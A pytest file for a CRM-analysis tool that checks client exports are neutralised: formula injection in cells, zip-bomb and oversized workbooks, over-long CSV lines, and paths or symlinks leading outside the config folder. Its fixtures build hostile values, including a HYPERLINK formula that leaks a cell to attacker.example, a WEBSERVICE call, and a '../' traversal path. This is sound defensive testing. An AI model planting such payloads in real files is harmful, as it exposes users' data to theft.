"""What a client's export cannot do to the consultant: formulas in written spreadsheets, hostile files,
files outside the client's folder.

Every hostile input is built here on the fly; each must end in a clear message naming the file and
the limit (or the path), never a traceback, an exhausted machine or a live formula.
"""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from crmanalysis.cells import FORMULA_STARTS
from crmanalysis.cli import main
from crmanalysis.config import ConfigError
from crmanalysis.io import load_client
from crmanalysis.io import readers as R

# ------------------------------------------------------------------------------------------ formulas
_KEEP = {"status", "type", "source_class", "kind", "category", "forecast_category", "currency"}


def _hostile(value: object, col: str, i: int) -> object:
    """A text cell as a hostile CRM user would type it: each of the formula starts in turn."""
    if not isinstance(value, str) or col in _KEEP or not value:
        return value
    if col.endswith("_id"):
        return "=" + value                                       # an id like "=U1" reads cell U1 in Excel
    if col == "name":
        return f'=HYPERLINK("http://attacker.example/?"&A1,"{value}")'
    return ("+", "-", "@", "=WEBSERVICE(\"http://x\")&")[i % 4] + value


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory):
    """The tiny generated client written canonically, formula-like text in every text column of every table."""
    from crmanalysis.samples.exports import write_canonical
    from crmanalysis.samples.synthetic import generate

    folder = tmp_path_factory.mktemp("hostile")
    data, _ = generate(size="tiny", seed=7, client_id="hostile")
    files = {}
    for table, df in data.tables.items():
        df = df.copy()
        for col in df.columns:
            if df[col].dtype == object or str(df[col].dtype).startswith("str"):
                df[col] = [_hostile(v, col, i) for i, v in enumerate(df[col].astype(object))]
        if table == "opportunities":      # one repeated id of another close date: a rejected row to write out
            again = df.iloc[[0]].assign(close_date=pd.to_datetime(df["close_date"].iloc[[0]]) + pd.Timedelta(days=1))
            df = pd.concat([df, again], ignore_index=True)
        write_canonical(df, folder / f"{table}.csv")
        files[table] = f"{table}.csv"
    (folder / "client.yml").write_text(yaml.safe_dump({"client_id": "hostile", "source": "canonical", "files": files,
                                                       "go_live": str(data.config.go_live)}), encoding="utf-8")
    return folder


def _risky(v: object) -> bool:
    return isinstance(v, str) and v.startswith(FORMULA_STARTS)


def _no_formula_in_workbook(path: Path) -> int:
    """Assert no formula cell and no risky text; the number of numeric cells (numbers must stay numbers)."""
    wb = openpyxl.load_workbook(path)
    numbers = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{path.name} {ws.title}!{c.coordinate}: formula {c.value!r}"
                assert not _risky(c.value), f"{path.name} {ws.title}!{c.coordinate}: {c.value!r}"
                numbers += isinstance(c.value, int | float) and not isinstance(c.value, bool)
    return numbers


def _no_formula_in_csv(path: Path) -> None:
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
        assert not any(_risky(v) for v in row), row


def test_kpis_out_and_rejected_rows_hold_no_formula(hostile_client, tmp_path):
    cfg = str(hostile_client / "client.yml")
    runner = CliRunner()
    for out in ("k.xlsx", "k.csv"):
        res = runner.invoke(main, ["kpis", cfg, "--kpi", "new_revenue,win_rate", "--by", "owner_id",
                                   "--out", str(tmp_path / out)], catch_exceptions=False)
        assert res.exit_code == 0, res.output
    assert _no_formula_in_workbook(tmp_path / "k.xlsx") > 0
    _no_formula_in_csv(tmp_path / "k.csv")
    # the owners are hostile ids: written as text, a quote first, still there to read
    text = (tmp_path / "k.csv").read_text(encoding="utf-8")
    assert "'=U" in text
    res = runner.invoke(main, ["validate", cfg, "--rejected", str(tmp_path / "r.csv")], catch_exceptions=False)
    assert res.exit_code == 1 and "Traceback" not in res.output
    _no_formula_in_csv(tmp_path / "r.csv")
    assert "duplicate opportunity_id" in (tmp_path / "r.csv").read_text(encoding="utf-8")


def test_the_reports_workbook_holds_no_formula(hostile_client, tmp_path):
    from crmanalysis.batch import run_client

    run = run_client(hostile_client / "client.yml", out_root=tmp_path, timeout=600)
    assert run.status == "ok", run.error
    assert _no_formula_in_workbook(Path(run.folder) / "kpis.xlsx") > 0
    html = (Path(run.folder) / "report.html").read_text(encoding="utf-8")
    assert "<a href=\"http://attacker" not in html and "=HYPERLINK" in html     # shown as text, escaped


def test_the_plan_workbook_holds_no_formula(tmp_path):
    """Reps are named in the plan's sheet, which the consultant opens and edits: no name may run as a formula."""
    from crmanalysis.io import load_client
    from crmanalysis.notebook import default_month
    from crmanalysis.planfile import plan_paths
    from crmanalysis.samples.exports import write_canonical
    from crmanalysis.samples.synthetic import generate

    data, _ = generate(size="tiny", seed=7, client_id="hostile", months=14)
    users = data.users.copy()
    users["name"] = [_hostile(v, "name", i) for i, v in enumerate(users["name"].astype(object))]
    files = {}
    for table, df in {**data.tables, "users": users}.items():
        write_canonical(df, tmp_path / f"{table}.csv")
        files[table] = f"{table}.csv"
    cfg = tmp_path / "client.yml"
    cfg.write_text(yaml.safe_dump({"client_id": "hostile", "source": "canonical", "files": files}), encoding="utf-8")
    month = str(pd.Period(default_month(load_client(cfg)[0]), "M") - 2)
    res = CliRunner().invoke(main, ["plan", str(cfg), "--baseline-month", month], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    book = next(p for p in plan_paths(cfg) if p.suffix == ".xlsx")
    assert _no_formula_in_workbook(book) > 0
    names = [c.value for ws in openpyxl.load_workbook(book).worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("'")]
    assert names, "the hostile rep names are in the sheet, as text"


# ------------------------------------------------------------------------------------------ hostile files
def _config(folder: Path, files: dict) -> Path:
    (folder / "client.yml").write_text(yaml.safe_dump({"client_id": "h", "source": "custom", "files": files,
                                                       "mapping": {"opportunities": {"columns": {
                                                           "opportunity_id": "Id", "status": "Status"}}}}),
                                       encoding="utf-8")
    return folder / "client.yml"


def _workbook_with(path: Path, sheet_xml: bytes) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        zf.writestr("xl/worksheets/sheet1.xml", sheet_xml)


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(tmp_path):
    # 40 MiB of one repeated byte packs into some 40 KiB: no sheet compresses a thousandfold
    _workbook_with(tmp_path / "deals.xlsx", b'<worksheet><sheetData>' + b"0" * (40 << 20) + b"</sheetData></worksheet>")
    with pytest.raises(R.ReadError, match=r"deals\.xlsx: xl/worksheets/sheet1\.xml unpacks [\d,]+ times its size.*"
                                          r"zip bomb"):
        R.read_raw(tmp_path / "deals.xlsx")
    res = CliRunner().invoke(main, ["validate", str(_config(tmp_path, {"opportunities": "deals.xlsx"}))],
                             catch_exceptions=False)
    assert res.exit_code == 2 and "zip bomb" in res.output and "Traceback" not in res.output


def test_a_workbook_larger_than_the_limit_unpacked_is_refused(tmp_path, monkeypatch):
    # the real limit is 1 GiB; the same check with a 1 MiB limit on a 2 MiB sheet that compresses as a real one
    monkeypatch.setattr(R, "MAX_XLSX_UNPACKED", 1 << 20)
    _workbook_with(tmp_path / "deals.xlsx", os.urandom(1 << 20).hex().encode())
    with pytest.raises(R.ReadError, match=r"unpacks to 2 MiB, more than the limit of 1 MiB"):
        R.read_raw(tmp_path / "deals.xlsx")


def test_a_workbook_claiming_more_rows_than_excel_is_refused(tmp_path):
    _workbook_with(tmp_path / "deals.xlsx", b'<worksheet><dimension ref="A1:C2000000"/><sheetData/></worksheet>')
    with pytest.raises(R.ReadError, match=r"2,000,000 rows, more than the 1,048,576"):
        R.read_raw(tmp_path / "deals.xlsx")


def test_a_csv_line_longer_than_the_limit_is_refused(tmp_path):
    p = tmp_path / "deals.csv"
    with open(p, "wb") as fh:                                  # 70 MiB without a line break
        fh.write(b"Id,Status\nA,won\nB,")
        fh.write(b"x" * (70 << 20))
        fh.write(b"\n")
    with pytest.raises(R.ReadError, match=r"deals\.csv: a line near byte [\d,]+ runs on for more than 32 MiB; the "
                                          r"limit is 64 MiB per line"):
        R.read_raw(p)


def test_more_columns_than_a_spreadsheet_holds_is_refused(tmp_path):
    p = tmp_path / "deals.csv"
    p.write_text(",".join(f"c{i}" for i in range(20_000)) + "\n" + ",".join("1" * 20_000) + "\n", encoding="utf-8")
    with pytest.raises(R.ReadError, match=r"deals\.csv: 20,000 columns, more than the 16,384"):
        R.read_raw(p)


# ------------------------------------------------------------------------------------------ paths
def test_files_outside_the_configs_folder_are_refused_unless_allowed(tmp_path, monkeypatch):
    monkeypatch.delenv("CRMANALYSIS_ALLOW_FILES", raising=False)
    (tmp_path / "client").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "deals.csv").write_text("Id,Status\nA,won\n", encoding="utf-8")
    cfg = _config(tmp_path / "client", {"opportunities": "../elsewhere/deals.csv"})
    with pytest.raises(ConfigError, match=r'key "files\.opportunities": \'\.\./elsewhere/deals\.csv\' resolves to '
                                          r'.*elsewhere/deals\.csv, outside the config\'s folder .*--allow-files'):
        load_client(cfg, cache=False)
    res = CliRunner().invoke(main, ["validate", str(cfg)], catch_exceptions=False)
    assert res.exit_code == 2 and "outside the config's folder" in res.output
    # a symbolic link inside the folder counts where it points
    os.symlink(tmp_path / "elsewhere" / "deals.csv", tmp_path / "client" / "deals.csv")
    cfg = _config(tmp_path / "client", {"opportunities": "deals.csv"})
    with pytest.raises(ConfigError, match="outside the config's folder"):
        load_client(cfg, cache=False)
    # the consultant allows the folder: read
    res = CliRunner().invoke(main, ["validate", str(cfg), "--allow-files", str(tmp_path / "elsewhere")],
                             catch_exceptions=False)
    assert res.exit_code == 0, res.output
    assert "1 rows read = 1 kept" in res.output
